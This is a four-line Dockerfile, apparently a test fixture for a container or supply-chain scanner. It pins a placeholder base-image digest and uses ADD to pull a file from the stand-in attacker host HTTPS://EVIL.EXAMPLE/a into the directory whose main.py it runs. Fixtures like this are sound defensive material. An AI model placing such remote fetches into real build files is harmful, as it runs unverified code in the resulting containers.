FROM cyberprivacy/python@sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a
add HTTPS://EVIL.EXAMPLE/a /app
USER 10001
CMD ["python3", "/app/main.py"]
